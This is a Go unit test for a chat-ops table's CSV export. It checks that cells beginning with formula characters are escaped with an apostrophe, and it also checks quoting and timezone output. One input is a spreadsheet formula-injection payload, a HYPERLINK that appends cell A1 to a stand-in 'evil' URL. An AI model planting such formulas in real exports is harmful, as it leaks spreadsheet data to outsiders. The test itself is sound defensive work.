package chatops_test

import (
	"testing"
	"time"

	"lineman/chatops"
)

func TestCSV(t *testing.T) {
	zone := time.FixedZone("CET", 3600)
	table := chatops.Table{Columns: []string{"name", "=start"}}
	for _, text := range []string{`=HYPERLINK("http://evil?"&A1)`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", `"=1`, "＝1", "'=1", " =1", "plain, with a comma", "two\nlines"} {
		table.Rows = append(table.Rows, []chatops.Inline{chatops.T("%s", text), chatops.At(time.Date(2026, 3, 1, 4, 0, 0, 0, time.UTC))})
	}
	table.Rows = append(table.Rows, []chatops.Inline{{{Text: "short", URL: "https://noc.example"}, {Mention: chatops.Party{ID: "U1", Name: "kim"}}}})
	const at = ",2026-03-01T05:00:00+01:00\n"
	want := "name,'=start\n" +
		`"'=HYPERLINK(""http://evil?""&A1)"` + at + "'+1+1" + at + "'-2+3" + at + "'@SUM(1)" + at + "'\t=1" + at + "'=1" + at +
		`"""=1"` + at + "'＝1" + at + "''=1" + at + "' =1" + at + `"plain, with a comma"` + at + "\"two\nlines\"" + at + "shortkim,\n"
	if got := string(table.CSV(zone)); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}
